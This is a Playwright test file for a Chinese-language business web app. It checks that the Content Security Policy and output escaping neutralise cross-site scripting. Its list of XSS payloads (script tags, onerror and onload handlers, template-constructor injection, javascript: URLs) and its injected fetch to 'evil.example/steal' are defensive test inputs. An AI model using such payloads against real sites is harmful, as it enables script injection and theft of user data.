import type { Page } from '@playwright/test'
import { ADDRESSES, type Address } from '../web/src/app/addresses.ts'
import { expect, PASSWORD, test } from './browser.ts'
import { declare, enter, writeStorage } from './platform.ts'

const TABLE: readonly Address[] = ADDRESSES
const ATTACKS = [
  '<script>window.attacked = 1</script>',
  '<img src=x onerror="window.attacked = 1">',
  '"><svg onload="window.attacked = 1">',
  '{{constructor.constructor("window.attacked = 1")()}}',
  "javascript:window.attacked=1//'",
]
const attacked = (page: Page) => page.evaluate(() => Reflect.get(window, 'attacked'))

/** What the policy had to stop, in every document of the page from now on. */
async function watchPolicy(page: Page): Promise<string[]> {
  const stopped: string[] = []
  await page.exposeFunction('policyStopped', (what: string) => stopped.push(what))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      Reflect.get(window, 'policyStopped')(`${effectiveDirective} ${blockedURI}`)
    })
  })
  return stopped
}

test('the policy stops nothing of ours on a tour of all screens', async ({ page }) => {
  const stopped = await watchPolicy(page)
  await enter(page, 'laoban')
  for (const { path, title } of TABLE.filter(
    ({ path, redirect }) => redirect === undefined && path !== '/login',
  )) {
    await page.goto(path.replace(/:\w+/g, '1'))
    await expect(page).toHaveTitle(`${title} - 商学`)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  }
  await page.goto('/my-profile')
  await page.getByRole('button', { name: '主题' }).click()
  await expect(page.getByRole('radio').first()).toBeVisible()
  expect(stopped).toEqual([])
})

test('the policy stops inline scripts, handlers, eval, foreign code, foreign calls and frames of ours', async ({
  page,
  watched,
}) => {
  const stopped = await watchPolicy(page)
  await page.goto('/login')
  await page.evaluate(() => {
    const script = document.createElement('script')
    script.textContent = 'window.attacked = 1'
    const image = document.createElement('img')
    image.setAttribute('onerror', 'window.attacked = 1')
    image.src = '/api/no-image'
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    const frame = document.createElement('iframe')
    frame.src = '/login'
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.body.append(script, image, foreign, frame, base)
    fetch('https://evil.example/steal').catch(() => undefined)
    new Image().src = 'https://evil.example/pixel'
  })
  await expect
    .poll(() => [...new Set(stopped.map((one) => one.split(' ')[0]))].sort())
    .toEqual(['base-uri', 'connect-src', 'img-src', 'script-src-attr', 'script-src-elem'])
  expect(await attacked(page)).toBeUndefined()
  await declare(watched, /Content Security Policy/)
})

test('no other site may show the app in a frame', async ({ page, baseURL }) => {
  await page.route('http://outside.test/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>outside</title><iframe src="${baseURL}/login"></iframe>`,
    }),
  )
  await page.goto('http://outside.test/')
  const inside = () => page.frames().find((frame) => frame !== page.mainFrame())
  await expect.poll(() => inside()?.url()).toBe('chrome-error://chromewebdata/')
})

for (const attack of ATTACKS) {
  test(`${attack} in an address is text`, async ({ page }) => {
    const stopped = await watchPolicy(page)
    const q = encodeURIComponent(attack)
    await page.goto(`/login?redirect=${q}&q=${q}#${q}`)
    await expect(page.getByLabel('用户名')).toBeVisible()
    await enter(page, 'laoban')
    for (const path of ['/home', '/price']) {
      await page.goto(`${path}?q=${q}`)
      await expect(page.getByRole('searchbox').first()).toHaveValue(attack)
    }
    await page.goto(`/others/kehu-visit/${q}`)
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    await page.goto(`/login?redirect=${q}`)
    await expect(page).toHaveURL(/\/home$/)
    expect(await attacked(page)).toBeUndefined()
    expect(stopped).toEqual([])
  })

  test(`${attack} as a name, in a message or in storage is text`, async ({ page }) => {
    const stopped = await watchPolicy(page)
    await page.goto('/login')
    const fields = { name: page.getByLabel('用户名'), password: page.getByLabel('密码', { exact: true }) }
    await page.route('**/api/auth/login', (route) =>
      route.fulfill({ status: 403, json: { code: 20003, msg: attack, data: null } }),
    )
    await fields.name.fill(attack)
    await fields.password.fill(PASSWORD)
    await page.getByRole('button', { name: '登录', exact: true }).click()
    await expect(page.getByText(attack, { exact: true })).toBeVisible()

    await page.route('**/api/vuevantqita/get-user-profile', async (route) => {
      const reply = await route.fetch()
      const body = await reply.json()
      await route.fulfill({ json: { ...body, data: { ...body.data, yonghuming: attack } } })
    })
    await enter(page, 'laoban', { zhiwei: attack })
    await writeStorage(page, {
      shujuku: attack,
      selectedTheme: attack,
      colorScheme: attack,
      lastUserName: attack,
    })
    await page.goto('/my-profile')
    const account = page.getByRole('region', { name: '账号' })
    await expect(account.getByRole('heading')).toHaveText(attack)
    await expect(account.getByText(attack, { exact: true })).toHaveCount(3)
    expect(await attacked(page)).toBeUndefined()
    expect(stopped).toEqual([])
  })
}
